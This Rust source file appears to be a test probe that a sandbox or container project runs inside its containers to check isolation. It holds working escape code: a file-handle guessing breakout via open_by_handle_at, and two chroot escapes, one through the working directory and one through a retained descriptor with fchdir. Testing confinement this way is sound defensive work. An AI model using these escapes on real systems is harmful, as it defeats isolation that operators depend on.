//! A program that scenarios run inside a container, where only a static one runs: tries what a shell can't.
//!
//! It is no part of the crate: `support::install_probe` compiles it.

use std::ffi::{c_char, c_int};
use std::fs::File;
use std::io::Error;
use std::os::fd::{AsRawFd as _, FromRawFd as _};
use std::os::unix::fs::chroot;

const AT_FDCWD: c_int = -100;
const O_RDONLY: c_int = 0;

/// `struct file_handle` with room for the largest one.
#[repr(C)]
struct Handle {
    length: u32,
    kind: c_int,
    bytes: [u8; 128],
}

unsafe extern "C" {
    fn name_to_handle_at(
        dir: c_int,
        path: *const c_char,
        handle: *mut Handle,
        mount: *mut c_int,
        flags: c_int,
    ) -> c_int;
    fn open_by_handle_at(mount: c_int, handle: *const Handle, flags: c_int) -> c_int;
    fn fchdir(fd: c_int) -> c_int;
}

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    match arguments.iter().map(String::as_str).collect::<Vec<_>>()[..] {
        ["handle"] => handle(),
        ["chroot-escape"] => chroot_escape(),
        ["chroot-escape-by-descriptor"] => chroot_escape_by_descriptor(),
        _ => panic!("usage: probe handle|chroot-escape|chroot-escape-by-descriptor"),
    }
}

/// Opens files by their handles: one that the kernel gave us, and the root directory of an ext4, which is guessed.
fn handle() {
    let mut handle = Handle { length: 128, kind: 0, bytes: [0; 128] };
    let mut mount = 0;
    if unsafe { name_to_handle_at(AT_FDCWD, c"/".as_ptr(), &mut handle, &mut mount, 0) } != 0 {
        println!("name: {}", Error::last_os_error());
    }
    println!("open: {}", open(&handle));
    let mut root_of_ext4 = Handle { length: 8, kind: 1, bytes: [0; 128] };
    root_of_ext4.bytes[0] = 2;
    println!("guess: {}", open(&root_of_ext4));
}

fn open(handle: &Handle) -> String {
    let root = File::open("/").unwrap();
    match unsafe { open_by_handle_at(root.as_raw_fd(), handle, O_RDONLY) } {
        -1 => Error::last_os_error().to_string(),
        fd => {
            let _file = unsafe { File::from_raw_fd(fd) };
            format!("opened {:?}", std::fs::read_link(format!("/proc/self/fd/{fd}")))
        }
    }
}

/// The working directory stays outside the new root, and `..` then knows no bound but the mount namespace's root.
fn chroot_escape() {
    std::fs::create_dir_all("/tmp/jail").unwrap();
    std::env::set_current_dir("/").unwrap();
    chroot("/tmp/jail").unwrap();
    up_and_list();
}

fn chroot_escape_by_descriptor() {
    std::fs::create_dir_all("/tmp/jail").unwrap();
    let outside = File::open("/").unwrap();
    chroot("/tmp/jail").unwrap();
    std::env::set_current_dir("/").unwrap();
    assert_eq!(unsafe { fchdir(outside.as_raw_fd()) }, 0);
    up_and_list();
}

fn up_and_list() {
    for _ in 0..64 {
        std::env::set_current_dir("..").unwrap();
    }
    chroot(".").unwrap();
    let mut names: Vec<_> = std::fs::read_dir("/").unwrap().map(|entry| entry.unwrap().file_name()).collect();
    names.sort();
    for name in names {
        println!("{}", name.display());
    }
}
